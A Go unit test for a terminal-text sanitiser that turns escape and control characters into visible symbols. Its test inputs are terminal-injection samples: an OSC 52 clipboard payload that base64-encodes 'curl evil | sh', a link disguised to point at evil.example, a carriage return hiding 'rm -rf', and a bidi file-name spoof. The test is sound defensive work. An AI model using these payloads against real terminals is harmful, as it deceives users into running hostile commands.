package termtext

import (
	"strings"
	"testing"
)

func TestInert(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"plain", "Deploy? 部署\n\tok", "Deploy? 部署\n\tok"},
		{"OSC 0 window title", "\x1b]0;pwned\x07", "␛]0;pwned␇"},
		{"CSI 2J clear screen", "\x1b[2J\x1b[H", "␛[2J␛[H"},
		{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\", "␛]52;c;Y3VybCBldmlsIHwgc2g=␛\\"},
		{"OSC 8 disguised link", "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "␛]8;;https://evil.example␛\\docs␛]8;;␛\\"},
		{"C1 CSI and OSC", "a\u009b2Jb\u009d0;t\u009c", `a\u009b2Jb\u009d0;t\u009c`},
		{"carriage return overwrites a line", "safe\rrm -rf", "safe␍rm -rf"},
		{"backspace and DEL", "ab\b\x7f", "ab␈␡"},
		{"NUL", "a\x00b", "a␀b"},
		{"bidi override", "txt.\u202eexe", `txt.\u202eexe`},
		{"invalid UTF-8, a raw 8-bit CSI byte", "a\x9b2Jb\xff", "a\uFFFD2Jb\uFFFD"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Inert(tc.in)
			if got != tc.want {
				t.Errorf("Inert(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if strings.ContainsAny(got, "\x1b\x07\r\x00\x7f") || strings.ContainsRune(got, 0x9b) {
				t.Errorf("Inert(%q) = %q still holds a control", tc.in, got)
			}
		})
	}
}
